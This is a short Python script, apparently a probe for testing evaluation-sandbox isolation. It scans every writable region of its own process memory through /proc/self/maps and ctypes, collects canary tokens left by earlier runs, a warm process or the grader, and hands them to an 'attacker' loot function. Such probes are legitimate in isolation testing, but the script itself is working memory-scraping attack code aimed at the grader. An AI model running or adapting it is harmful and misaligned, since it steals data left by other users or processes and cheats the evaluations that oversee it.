"""Searches the memory of its own process for what an earlier student, the warm process or the grader left."""

import ctypes
import re

from attacker import loot

with open("/proc/self/maps") as maps:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" not in line or end - start > 200_000_000:
            continue
        memory = (ctypes.c_char * (end - start)).from_address(start)
        loot(*re.findall(rb"canary-[0-9a-f]{16}", memory))
